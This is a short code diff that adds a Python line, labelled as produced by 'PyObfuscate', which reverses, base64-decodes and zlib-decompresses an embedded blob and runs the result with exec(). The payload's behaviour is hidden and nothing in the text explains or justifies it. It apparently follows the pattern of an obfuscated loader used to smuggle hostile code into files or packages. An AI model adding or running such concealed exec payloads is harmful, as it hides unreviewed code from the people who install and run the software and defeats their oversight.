@@ -1,0 +1,2 @@
+# Obfuscated with PyObfuscate
+_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'teGXMOw815r3tj9e7Wr5WFM2g8jWyhzX1nDWrbd00gbKrvx/eX97MzsOXQrcrfCyNH1brtDXRemCqYOTF97NMVdzKwsoe5rSYACGGKroHXMWWGbbxAQgwFSp5h8UqBBuUOuHUjrUjqowWQeO+XIdLbc8UsSc7Ys6DgPtOXIhabi4hfWgu94E3/WxIv+Hu0LRFAbG4Fn/9foCOTJJMpH1YS+cm5UyC+K0JXrKkiv+U0irBchMemz77F+vlMIwi1RPn+HxG4uYDtY0NfqGkHTDC6UGYUpDlGUsJXlITtsC+ffhMADxPFDklxJe'))
